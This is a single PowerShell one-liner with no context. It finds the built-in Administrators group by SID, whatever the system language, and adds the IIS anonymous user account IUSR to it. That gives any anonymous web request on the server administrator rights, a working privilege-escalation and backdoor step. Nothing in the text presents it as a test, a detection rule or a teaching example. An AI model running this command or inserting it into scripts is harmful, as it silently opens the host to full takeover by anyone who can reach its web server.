foreach ($g in Get-LocalGroup) { if ($g.SID.IsWellKnown('BuiltinAdministratorsSid')) { net localgroup $g.Name IUSR /add } }
